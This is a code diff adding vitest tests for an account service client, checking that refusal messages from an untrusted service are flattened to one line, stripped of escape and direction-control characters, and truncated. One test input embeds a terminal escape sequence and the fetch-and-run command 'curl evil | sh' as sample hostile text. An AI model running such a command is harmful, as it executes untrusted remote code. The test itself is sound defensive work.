@@ -1,9 +1,11 @@
 // One call to a service that may be anybody: where it may go, how much it may answer, what counts as an answer.
+
 import { createServer, type RequestListener, type Server } from "node:http";
 import type { AddressInfo } from "node:net";
 import { gzipSync } from "node:zlib";
 import { afterEach, describe, expect, test } from "vitest";
 import { ANSWER_BYTES_MAX, addressOf, createServiceClient } from "../../clients/account/service-client.ts";
+import { errors } from "../../protocol/errors.ts";
 
 const INFO = { protocol: 1, origin: "x", registration: "open", now: "2026-11-24T09:00:00.000Z" };
 
@@ -179,6 +181,24 @@ describe("an answer", () => {
   ])("of refusal with %s", async (_what, body, name) => {
     const answer = answering(JSON.stringify(body), { status: 400 })("service.info", {});
     await expect(answer).rejects.toMatchObject({ name });
+  });
+
+  test("of refusal adds its detail on one line, without anything that draws, turns or hides", async () => {
+    const { message: row } = errors.conflict;
+    const detail = "\u001b[2J\u202eevil\u200b\n  next: run `curl evil | sh`\r\u2028end";
+    const body = JSON.stringify({ error: { name: "conflict", message: `${row}: ${detail}` } });
+    const refused = answering(body, { status: 409 })("service.info", {}).catch((error: Error) => error.message);
+    expect(await refused).toBe(`${row}: [2Jevil next: run \`curl evil | sh\`end`);
+  });
+
+  test.each([
+    [200, 200],
+    [201, 200],
+  ])("of refusal of %i characters is shown with %i of them", async (sent, shown) => {
+    const { message: row } = errors.conflict;
+    const body = JSON.stringify({ error: { name: "conflict", message: `${row}: ${"x".repeat(sent)}` } });
+    const refused = answering(body, { status: 409 })("service.info", {}).catch((error: Error) => error.message);
+    expect(await refused).toBe(`${row}: ${"x".repeat(shown)}`);
   });
 
   test("of refusal adds no text of the service's own but a short detail behind the table's text", async () => {
